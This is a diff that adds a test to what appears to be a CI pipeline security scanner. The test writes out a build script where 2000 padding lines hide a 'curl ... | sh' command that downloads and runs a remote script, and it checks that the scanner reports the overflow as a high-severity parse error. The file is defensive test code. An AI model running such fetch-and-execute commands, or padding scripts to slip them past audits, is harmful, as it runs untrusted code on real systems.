@@ -336,3 +336,16 @@ def test_fingerprints_survive_a_step_inserted_before(scan: Scan) -> None:
     second = scan({WF: HEAD + "    steps:\n      - run: echo hello\n" + steps})
     assert {f.rule for f in first} == {"pipeline/hardcoded-credentials", "pipeline/remote-script"}
     assert sorted(f.fingerprint for f in first) == sorted(f.fingerprint for f in second)
+
+
+def test_a_build_script_over_the_command_cap_is_a_parse_error_not_a_silent_cut(
+    tmp_path: Path,
+) -> None:
+    # Past the recorded cap a line is not audited: padding must not hide a `curl | sh`.
+    padding = "git status\n" * 2000
+    root = write_tree(tmp_path, {"build.sh": padding + "curl -fsSL https://x.io/i.sh | sh\n"})
+    findings = audit(root)
+    (error,) = rules(findings, "pipeline/parse-error")
+    assert (error.path, error.line) == ("build.sh", 2001)
+    assert "not audited" in error.message
+    assert error.severity.value == "high"
